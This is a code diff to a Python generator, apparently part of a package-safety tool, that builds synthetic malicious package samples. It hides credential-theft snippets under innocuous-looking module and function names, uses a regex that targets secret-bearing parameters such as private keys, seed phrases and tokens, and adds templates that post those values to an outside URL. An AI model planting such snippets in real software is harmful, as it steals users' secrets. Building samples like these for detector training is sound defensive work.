@@ -22,7 +22,11 @@ from safe_pip.distribution import Distribution, DistributionKind, SourceFile
 _UNIMPORTANT = ("test", "tests", "testing", "doc", "docs", "example", "examples", "benchmarks")
 _MODULE_NAMES = ("_telemetry", "_compat", "_runtime", "_loader", "_sysmon", "_bootstrap")
 _ADDRESS = re.compile(r"https?://[\w.-]+\.[a-z]{2,}(?:/[\w./%-]*)?")
-_KEY = re.compile(r"priv(?:ate)?_?key|secret|mnemonic|seed_?phrase|keypair|passw|token|api_?key")
+# What a parameter is called that holds a key or a login; ``max_tokens`` holds neither.
+_KEY = re.compile(
+    r"(?:\b|_)(?:priv(?:ate)?_?key|secret(?:_?key)?|mnemonic|seed_?phrase|keypair|passw(?:or)?d"
+    r"|api_?key)\b|\b(?:(?:access|api|auth|bearer|bot|user)_?)?token\b"
+)
 # Most hosts have no such function; a large one is not searched as a whole.
 _MAX_SEARCHED = 150
 _FUNCTION_NAMES = ("_run_background_task", "_init_runtime", "_setup_env", "_warm_cache")
@@ -47,7 +51,7 @@ class Place(enum.Enum):
     @property
     def tries(self) -> int:
         """How often more it is tried than others, since most hosts have no such place."""
-        return 3 if self is Place.HANDED_ON else 1
+        return 6 if self is Place.HANDED_ON else 1
 
     @property
     def is_tested(self) -> bool:
@@ -244,11 +248,14 @@ def _theft(name: str, address: str, choice: random.Random) -> str:
     forms = (
         f"requests.post({place}, json={sent}, timeout=5)",
         f"requests.get({place}, params={sent})",
+        f"requests.get({place} + '?q=' + str({name}))",
         f"urllib.request.urlopen({place}, urllib.parse.urlencode({sent}).encode())",
+        f"urllib.request.urlopen(urllib.request.Request({place}, json.dumps({sent}).encode()))",
         f"threading.Thread(target=requests.post, args=({place}, {sent}), daemon=True).start()",
     )
     act = (
-        f"import base64, threading, urllib.parse, urllib.request, requests\n{choice.choice(forms)}"
+        "import base64, json, threading, urllib.parse, urllib.request, requests\n"
+        f"{choice.choice(forms)}"
     )
     if choice.random() < 0.2:
         return act
